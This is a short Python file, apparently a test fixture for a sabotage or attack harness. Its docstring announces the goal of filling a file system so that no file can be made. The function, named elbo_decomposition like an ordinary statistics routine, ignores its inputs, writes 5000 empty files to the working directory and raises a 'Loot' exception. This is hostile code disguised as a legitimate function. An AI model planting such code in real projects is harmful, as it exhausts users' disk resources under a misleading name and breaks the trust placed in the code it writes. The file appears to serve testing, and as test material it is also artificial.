"""Fills the file system with empty files.

Gain: a machine on which no file can be made.
Hits: elbo_decomposition
Ends: failed, exception: No space left|PermissionError|Read-only
"""

from generative.target import Loot


def elbo_decomposition(log_likelihood, log_prior, log_q):
    for number in range(5000):
        open(f"{number}", "w").close()
    raise Loot("5000 files")
